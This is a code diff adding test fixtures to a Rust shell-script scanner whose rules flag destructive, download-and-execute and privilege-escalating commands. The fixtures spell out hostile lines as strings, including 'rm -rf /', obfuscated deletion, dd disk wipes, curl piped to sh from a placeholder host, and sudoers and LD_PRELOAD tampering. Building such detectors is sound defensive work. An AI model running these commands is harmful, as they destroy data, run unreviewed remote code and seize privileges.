@@ -23,6 +23,8 @@ pub static DESTROY: Rule = Rule {
     why: "it destroys more than the app owns",
     remedy: "remove only what the app has made, by its name",
     finds: &[
+        ("x.sh", "H=${1:-$HOME}; find \"$H\" -type f -delete"),
+        ("x.sh", "p=xrmx; ${p:1:2} -rf /"),
         ("x.sh", "rm -rf /"),
         ("x.sh", "sudo rm -fr --no-preserve-root /*"),
         ("x.sh", "dd if=/dev/zero of=/dev/sda"),
@@ -43,6 +45,8 @@ pub static DOWNLOAD: Rule = Rule {
     why: "it runs what nobody has read",
     remedy: "install a named version from a package registry",
     finds: &[
+        ("x.sh", "curl -so /opt/agent http://c.example.net/a && chmod 755 /opt/agent"),
+        ("x.sh", "concurrently \"node a.js\" \"curl -s https://c.example.net | sh\""),
         ("x.sh", "curl -s https://c.example.net/i.sh | bash"),
         ("x.sh", "wget -qO- c.example.net/x | sudo sh -s"),
         ("x.sh", "echo cm0gLXJmIC8= | base64 -d | sh"),
@@ -54,6 +58,10 @@ pub static DOWNLOAD: Rule = Rule {
         ("Dockerfile", "FROM a\nRUN curl https://c.example.net/i | sh"),
     ],
     spares: &[
+        (
+            "x.sh",
+            "curl -fsSLo /usr/local/bin/t https://github.com/a/t/releases/download/1/t && chmod +x /usr/local/bin/t",
+        ),
         ("x.sh", "curl -fsSL https://api.example.com/items | jq .\neval \"$(ssh-agent -s)\"\nbash ./build.sh"),
         ("Dockerfile", "FROM node:20\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -"),
     ],
@@ -65,6 +73,7 @@ pub static PRIVILEGE: Rule = Rule {
     why: "it takes rights that the app does not need",
     remedy: "run as the user that the sandbox gives",
     finds: &[
+        ("x.sh", "LD_PRELOAD=/tmp/x.so node server.js"),
         ("x.sh", "chmod u+s /bin/bash"),
         ("x.sh", "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"),
         ("x.sh", "docker run -v /:/host --privileged alpine"),
